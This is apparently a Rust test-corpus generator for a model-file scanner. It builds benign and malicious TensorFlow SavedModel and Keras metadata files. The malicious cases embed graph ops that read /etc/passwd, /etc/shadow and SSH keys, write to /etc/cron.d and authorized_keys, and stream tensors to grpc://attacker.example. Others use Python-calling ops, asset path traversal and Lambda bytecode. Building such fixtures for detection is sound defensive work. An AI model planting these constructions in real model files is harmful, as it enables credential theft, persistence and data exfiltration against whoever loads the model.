//! TensorFlow `saved_model.pb` and `keras_metadata.pb` writers and their corpus cases.
//!
//! Field numbers follow TensorFlow's `saved_model.proto`, `meta_graph.proto`, `graph.proto`, `node_def.proto`,
//! `function.proto`, `attr_value.proto` and Keras's `saved_metadata.proto`. The honest graph mirrors what
//! `tf.saved_model.save` writes for a small Keras model: variables, a `StatefulPartitionedCall` into a
//! function library, and the saver subgraph (`SaveV2`, `RestoreV2`, `MergeV2Checkpoints`, ...).

use crate::onnx::Proto;
use crate::Case;

const DT_FLOAT: i64 = 1;
const DT_STRING: i64 = 7;
const DT_RESOURCE: i64 = 20;

/// An attribute map entry (`map<string, AttrValue>` is a repeated entry message: key 1, value 2).
fn attr(key: &str, value: Proto) -> Proto {
    Proto::new().string(1, key).message(2, &value)
}

fn attr_s(s: &str) -> Proto {
    Proto::new().bytes(2, s.as_bytes())
}

fn attr_type(t: i64) -> Proto {
    Proto::new().varint(6, t)
}

fn attr_list_types(types: &[i64]) -> Proto {
    let mut list = Proto::new();
    for t in types {
        list = list.varint(6, *t);
    }
    Proto::new().message(1, &list)
}

fn attr_func(name: &str) -> Proto {
    Proto::new().message(10, &Proto::new().string(1, name))
}

/// A string constant tensor (`TensorProto` with `dtype` string, scalar shape, `string_val`).
fn attr_string_tensor(values: &[&str]) -> Proto {
    let mut t = Proto::new().varint(1, DT_STRING).message(2, &Proto::new());
    for v in values {
        t = t.bytes(8, v.as_bytes());
    }
    Proto::new().message(8, &t)
}

/// A `NodeDef`.
fn node(name: &str, op: &str, inputs: &[&str], attrs: &[Proto]) -> Proto {
    let mut n = Proto::new()
        .string(1, name)
        .string(2, op)
        .strings(3, inputs);
    for a in attrs {
        n = n.message(5, a);
    }
    n
}

fn const_string(name: &str, value: &str) -> Proto {
    node(
        name,
        "Const",
        &[],
        &[
            attr("dtype", attr_type(DT_STRING)),
            attr("value", attr_string_tensor(&[value])),
        ],
    )
}

/// Extra nodes for op spec `op` or `op:arg` (see [`with_ops`]); `suffix` keeps names unique; `input_fmt`
/// turns a node name into an input reference (`name` in graphs, `name:output:0` in functions).
fn extra_nodes(spec: &str, suffix: usize, in_function: bool) -> Vec<Proto> {
    let (op, arg) = spec
        .split_once(':')
        .map_or((spec, None), |(o, a)| (o, Some(a)));
    let input = |n: &str| {
        if in_function {
            format!("{n}:output:0")
        } else {
            n.to_owned()
        }
    };
    let path = format!("path_{suffix}");
    match op {
        "ReadFile" | "MatchingFiles" => {
            let target = arg.unwrap_or(if op == "ReadFile" {
                "/etc/passwd"
            } else {
                "/home/*/.ssh/*"
            });
            vec![
                const_string(&path, target),
                node(&format!("{op}_{suffix}"), op, &[&input(&path)], &[]),
            ]
        }
        "WriteFile" => {
            let contents = format!("contents_{suffix}");
            vec![
                const_string(&path, arg.unwrap_or("/tmp/pwned.txt")),
                const_string(&contents, "pwned"),
                node(
                    &format!("WriteFile_{suffix}"),
                    "WriteFile",
                    &[&input(&path), &input(&contents)],
                    &[],
                ),
            ]
        }
        "PyFunc" | "PyFuncStateless" | "EagerPyFunc" => vec![node(
            &format!("{op}_{suffix}"),
            op,
            &["serving_default_input"],
            &[
                attr("token", attr_s("pyfunc_0")),
                attr("Tin", attr_list_types(&[DT_FLOAT])),
                attr("Tout", attr_list_types(&[DT_FLOAT])),
            ],
        )],
        "ImmutableConst" => vec![node(
            &format!("ImmutableConst_{suffix}"),
            "ImmutableConst",
            &[],
            &[
                attr("dtype", attr_type(DT_FLOAT)),
                attr("memory_region_name", attr_s(arg.unwrap_or("/etc/passwd"))),
            ],
        )],
        "PrintV2" => vec![node(
            &format!("PrintV2_{suffix}"),
            "PrintV2",
            &["serving_default_input"],
            &[
                attr("output_stream", attr_s(arg.unwrap_or("stderr"))),
                attr("end", attr_s("\n")),
            ],
        )],
        "RestoreV2" => vec![
            const_string(&path, arg.unwrap_or("/etc/shadow")),
            const_string(
                &format!("names_{suffix}"),
                "layer/kernel/.ATTRIBUTES/VARIABLE_VALUE",
            ),
            node(
                &format!("RestoreV2_{suffix}"),
                "RestoreV2",
                &[&input(&path), &input(&format!("names_{suffix}"))],
                &[],
            ),
        ],
        "CSVDataset" | "DatasetToTFRecord" => vec![
            const_string(&path, arg.unwrap_or("/etc/passwd")),
            node(&format!("{op}_{suffix}"), op, &[&input(&path)], &[]),
        ],
        "DebugIdentity" => vec![node(
            &format!("DebugIdentity_{suffix}"),
            "DebugIdentity",
            &["serving_default_input"],
            &[attr(
                "debug_urls",
                Proto::new().message(
                    1,
                    &Proto::new()
                        .bytes(2, arg.unwrap_or("grpc://attacker.example:6064").as_bytes()),
                ),
            )],
        )],
        // `SaveV2` whose prefix is computed: StringJoin of two constants.
        "SaveV2" => {
            let (a, b) = arg
                .and_then(|a| a.split_once('+'))
                .unwrap_or(("/etc/cron.d/", "job"));
            let (left, right, joined) = (
                format!("left_{suffix}"),
                format!("right_{suffix}"),
                format!("join_{suffix}"),
            );
            vec![
                const_string(&left, a),
                const_string(&right, b),
                node(&joined, "StringJoin", &[&input(&left), &input(&right)], &[]),
                node(
                    &format!("SaveV2_{suffix}"),
                    "SaveV2",
                    &[&input(&joined)],
                    &[],
                ),
            ]
        }
        other => vec![node(&format!("{other}_{suffix}"), other, &[], &[])],
    }
}

/// The honest serving function body: `ReadVariableOp`, `MatMul`, `BiasAdd`, `Relu`.
fn call_function(name: &str, extra: &[Proto]) -> Proto {
    let sig = Proto::new()
        .string(1, name)
        .message(2, &Proto::new().string(1, "inputs").varint(3, DT_FLOAT))
        .message(2, &Proto::new().string(1, "kernel").varint(3, DT_RESOURCE))
        .message(3, &Proto::new().string(1, "identity").varint(3, DT_FLOAT));
    let mut f = Proto::new().message(1, &sig);
    for n in [
        node(
            "MatMul/ReadVariableOp",
            "ReadVariableOp",
            &["kernel"],
            &[attr("dtype", attr_type(DT_FLOAT))],
        ),
        node(
            "MatMul",
            "MatMul",
            &["inputs", "MatMul/ReadVariableOp:value:0"],
            &[attr("T", attr_type(DT_FLOAT))],
        ),
        node(
            "Relu",
            "Relu",
            &["MatMul:product:0"],
            &[attr("T", attr_type(DT_FLOAT))],
        ),
        node(
            "Identity",
            "Identity",
            &["Relu:activations:0"],
            &[attr("T", attr_type(DT_FLOAT))],
        ),
    ]
    .iter()
    .chain(extra)
    {
        f = f.message(3, n);
    }
    f.message(
        4,
        &Proto::new()
            .string(1, "identity")
            .string(2, "Identity:output:0"),
    )
}

/// The honest graph nodes: a variable, the serving call, and the saver subgraph.
fn honest_nodes() -> Vec<Proto> {
    vec![
        node(
            "serving_default_input",
            "Placeholder",
            &[],
            &[attr("dtype", attr_type(DT_FLOAT))],
        ),
        node(
            "dense/kernel",
            "VarHandleOp",
            &[],
            &[
                attr("dtype", attr_type(DT_FLOAT)),
                attr("shared_name", attr_s("dense/kernel")),
            ],
        ),
        node(
            "dense/kernel/Read/ReadVariableOp",
            "ReadVariableOp",
            &["dense/kernel"],
            &[attr("dtype", attr_type(DT_FLOAT))],
        ),
        node(
            "StatefulPartitionedCall",
            "StatefulPartitionedCall",
            &["serving_default_input", "dense/kernel"],
            &[
                attr("f", attr_func("__inference_signature_wrapper_42")),
                attr("Tin", attr_list_types(&[DT_FLOAT, DT_RESOURCE])),
                attr("Tout", attr_list_types(&[DT_FLOAT])),
            ],
        ),
        node(
            "saver_filename",
            "Placeholder",
            &[],
            &[attr("dtype", attr_type(DT_STRING))],
        ),
        const_string("Const", "^s3://.*"),
        const_string("Const_1", "_temp/part"),
        node(
            "StaticRegexFullMatch",
            "StaticRegexFullMatch",
            &["saver_filename"],
            &[attr("pattern", attr_s("^s3://.*"))],
        ),
        node(
            "Select",
            "Select",
            &["StaticRegexFullMatch", "Const", "Const_1"],
            &[],
        ),
        node(
            "StringJoin",
            "StringJoin",
            &["saver_filename", "Select"],
            &[],
        ),
        const_string("num_shards", "1"),
        node(
            "ShardedFilename",
            "ShardedFilename",
            &["StringJoin", "num_shards", "num_shards"],
            &[],
        ),
        const_string(
            "SaveV2/tensor_names",
            "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE",
        ),
        const_string("SaveV2/shape_and_slices", ""),
        node(
            "SaveV2",
            "SaveV2",
            &[
                "ShardedFilename",
                "SaveV2/tensor_names",
                "SaveV2/shape_and_slices",
                "dense/kernel/Read/ReadVariableOp",
            ],
            &[attr("dtypes", attr_list_types(&[DT_FLOAT]))],
        ),
        node(
            "MergeV2Checkpoints",
            "MergeV2Checkpoints",
            &["ShardedFilename", "saver_filename"],
            &[],
        ),
        const_string(
            "RestoreV2/tensor_names",
            "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE",
        ),
        node(
            "RestoreV2",
            "RestoreV2",
            &[
                "saver_filename",
                "RestoreV2/tensor_names",
                "SaveV2/shape_and_slices",
            ],
            &[attr("dtypes", attr_list_types(&[DT_FLOAT]))],
        ),
        node(
            "AssignVariableOp",
            "AssignVariableOp",
            &["dense/kernel", "RestoreV2"],
            &[attr("dtype", attr_type(DT_FLOAT))],
        ),
    ]
}

/// Build a `saved_model.pb`.
fn saved_model(graph_nodes: &[Proto], functions: &[Proto], assets: &[&str]) -> Vec<u8> {
    let meta_info = Proto::new()
        .string(4, "serve")
        .string(5, "2.15.0")
        .string(6, "v2.15.0-rc1-8-g6887368d6d4");
    let mut library = Proto::new();
    for f in functions {
        library = library.message(1, f);
    }
    let mut graph = Proto::new();
    for n in graph_nodes {
        graph = graph.message(1, n);
    }
    graph = graph
        .message(2, &library)
        .message(4, &Proto::new().varint(1, 1645).varint(2, 12));
    let saver = Proto::new()
        .string(1, "saver_filename:0")
        .string(2, "StatefulPartitionedCall_1:0")
        .string(3, "StatefulPartitionedCall_2")
        .varint(4, 5)
        .varint(7, 2);
    let mut meta = Proto::new()
        .message(1, &meta_info)
        .message(2, &graph)
        .message(3, &saver);
    for asset in assets {
        let tensor_info = Proto::new()
            .string(1, "asset_path_initializer:0")
            .varint(2, DT_STRING);
        meta = meta.message(6, &Proto::new().message(1, &tensor_info).string(2, asset));
    }
    Proto::new().varint(1, 1).message(2, &meta).finish()
}

/// An honest SavedModel: a dense layer's variable, its serving function and the standard saver ops.
pub fn honest() -> Vec<u8> {
    saved_model(
        &honest_nodes(),
        &[call_function("__inference_signature_wrapper_42", &[])],
        &[],
    )
}

/// The honest SavedModel plus ops in the graph (`graph_ops`) and in a library function (`function_ops`).
/// Each spec is an op name or `op:argument`: the path for `ReadFile`/`WriteFile`/`MatchingFiles`/`RestoreV2`
/// (a `Const` input), the `memory_region_name` of `ImmutableConst`, the `output_stream` of `PrintV2`.
/// Python ops get the token `pyfunc_0`.
pub fn with_ops(graph_ops: &[&str], function_ops: &[&str]) -> Vec<u8> {
    let mut nodes = honest_nodes();
    for (i, spec) in graph_ops.iter().enumerate() {
        nodes.extend(extra_nodes(spec, i, false));
    }
    let mut functions = vec![call_function("__inference_signature_wrapper_42", &[])];
    if !function_ops.is_empty() {
        let extra: Vec<Proto> = function_ops
            .iter()
            .enumerate()
            .flat_map(|(i, s)| extra_nodes(s, 100 + i, true))
            .collect();
        functions.push(call_function("__inference_preprocess_77", &extra));
    }
    saved_model(&nodes, &functions, &[])
}

/// The honest SavedModel with one asset file named `filename`.
pub fn with_asset(filename: &str) -> Vec<u8> {
    let mut nodes = honest_nodes();
    nodes.push(const_string("asset_path_initializer", filename));
    saved_model(
        &nodes,
        &[call_function("__inference_signature_wrapper_42", &[])],
        &[filename],
    )
}

/// A `keras_metadata.pb` for a Sequential model; with `lambda`, its second layer is a Lambda carrying
/// bytecode (described both in its own node and in the model's config, as Keras writes it).
pub fn keras_metadata(lambda: bool) -> Vec<u8> {
    let variant = if lambda {
        crate::keras::Variant::LambdaList
    } else {
        crate::keras::Variant::Honest
    };
    let model_config: serde_json::Value =
        serde_json::from_str(&crate::keras::sequential_config(variant)).unwrap_or_default();
    let root_meta = serde_json::json!({
        "name": "sequential", "trainable": true, "expects_training_arg": true, "dtype": "float32",
        "batch_input_shape": null, "must_restore_from_config": false, "preserve_input_structure_in_config": false,
        "autocast": false, "class_name": "Sequential", "config": model_config["config"],
        "is_graph_network": true, "keras_version": "2.15.0", "backend": "tensorflow",
    });
    let mut out = Proto::new().message(
        1,
        &saved_object(0, "root", "_tf_keras_sequential", &root_meta.to_string()),
    );
    let layers = model_config["config"]["layers"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    for (i, layer) in layers.iter().enumerate() {
        let mut meta = layer.clone();
        if let Some(obj) = meta.as_object_mut() {
            obj.insert("name".into(), layer["config"]["name"].clone());
            obj.insert("trainable".into(), true.into());
        }
        let path = format!("root.layer-{i}");
        out = out.message(
            1,
            &saved_object(i as i64 + 1, &path, "_tf_keras_layer", &meta.to_string()),
        );
    }
    out.finish()
}

fn saved_object(id: i64, path: &str, identifier: &str, metadata: &str) -> Proto {
    let mut o = Proto::new();
    if id != 0 {
        o = o.varint(2, id);
    }
    o.string(3, path)
        .string(4, identifier)
        .string(5, metadata)
        .message(6, &Proto::new().varint(1, 2).varint(2, 1))
}

/// Malicious and benign cases of this format.
pub fn corpus() -> Vec<Case> {
    const PY: &str = "graph op that calls Python (tf.py_function)";
    const FILE: &str = "graph op that reads or writes host files";
    const PATH: &str = "path outside the SavedModel directory";
    const LAMBDA: &str = "Keras Lambda bytecode in keras_metadata.pb";
    vec![
        Case::malicious(
            "savedmodel/custom-native-op",
            "saved_model.pb",
            with_ops(&[], &["AcmeRunCommand"]),
            "AEG-SCAN-704",
            "an op no TensorFlow defines: a custom kernel from a native library",
        ),
        Case::benign(
            "savedmodel/stateful-but-reviewed",
            "saved_model.pb",
            with_ops(
                &["HashTableV2", "LookupTableFindV2", "RandomUniform"],
                &["StatefulPartitionedCall", "AssignVariableOp"],
            ),
            "stateful ops honest models use: tables, random numbers, variables",
        ),
        Case::malicious(
            "savedmodel/dataset-to-tfrecord",
            "saved_model.pb",
            with_ops(&["DatasetToTFRecord:/root/.ssh/authorized_keys"], &[]),
            "AEG-SCAN-701",
            FILE,
        ),
        Case::malicious(
            "savedmodel/csv-dataset-system-file",
            "saved_model.pb",
            with_ops(&[], &["CSVDataset:/etc/passwd"]),
            "AEG-SCAN-701",
            FILE,
        ),
        Case::malicious(
            "savedmodel/debug-identity-grpc",
            "saved_model.pb",
            with_ops(&["DebugIdentity"], &[]),
            "AEG-SCAN-701",
            "debug op streaming tensors to a remote debugger",
        ),
        Case::malicious(
            "savedmodel/savev2-stringjoin-path",
            "saved_model.pb",
            with_ops(&["SaveV2:/etc/cron.d/+job"], &[]),
            "AEG-SCAN-702",
            PATH,
        ),
        Case::benign(
            "savedmodel/savev2-stringjoin-inside",
            "saved_model.pb",
            with_ops(&["SaveV2:variables/+variables"], &[]),
            PATH,
        ),
        Case::malicious(
            "savedmodel/pyfunc-in-graph",
            "saved_model.pb",
            with_ops(&["PyFunc"], &[]),
            "AEG-SCAN-700",
            PY,
        ),
        Case::benign("savedmodel/honest", "saved_model.pb", honest(), PY),
        Case::malicious(
            "savedmodel/pyfunc-in-function-library",
            "saved_model.pb",
            with_ops(&[], &["EagerPyFunc"]),
            "AEG-SCAN-700",
            PY,
        ),
        Case::benign(
            "savedmodel/honest-library-ops",
            "saved_model.pb",
            with_ops(&[], &["Relu", "Softmax"]),
            PY,
        ),
        Case::malicious(
            "savedmodel/readfile",
            "saved_model.pb",
            with_ops(&["ReadFile"], &[]),
            "AEG-SCAN-701",
            FILE,
        ),
        Case::benign(
            "savedmodel/print-to-stderr",
            "saved_model.pb",
            with_ops(&["PrintV2:stderr"], &[]),
            FILE,
        ),
        Case::malicious(
            "savedmodel/writefile-in-function",
            "saved_model.pb",
            with_ops(&[], &["WriteFile"]),
            "AEG-SCAN-701",
            FILE,
        ),
        Case::benign(
            "savedmodel/variable-ops",
            "saved_model.pb",
            with_ops(&["VarHandleOp", "ReadVariableOp"], &[]),
            FILE,
        ),
        Case::malicious(
            "savedmodel/print-to-file",
            "saved_model.pb",
            with_ops(&["PrintV2:file:///tmp/leak.txt"], &[]),
            "AEG-SCAN-701",
            FILE,
        ),
        Case::malicious(
            "savedmodel/asset-traversal",
            "saved_model.pb",
            with_asset("../../../etc/passwd"),
            "AEG-SCAN-702",
            PATH,
        ),
        Case::benign(
            "savedmodel/asset-vocab",
            "saved_model.pb",
            with_asset("vocab.txt"),
            PATH,
        ),
        Case::malicious(
            "savedmodel/restore-absolute-prefix",
            "saved_model.pb",
            with_ops(&["RestoreV2:/etc/shadow"], &[]),
            "AEG-SCAN-702",
            PATH,
        ),
        Case::malicious(
            "savedmodel/keras-metadata-lambda",
            "keras_metadata.pb",
            keras_metadata(true),
            "AEG-SCAN-600",
            LAMBDA,
        ),
        Case::benign(
            "savedmodel/keras-metadata-dense",
            "keras_metadata.pb",
            keras_metadata(false),
            LAMBDA,
        ),
    ]
}
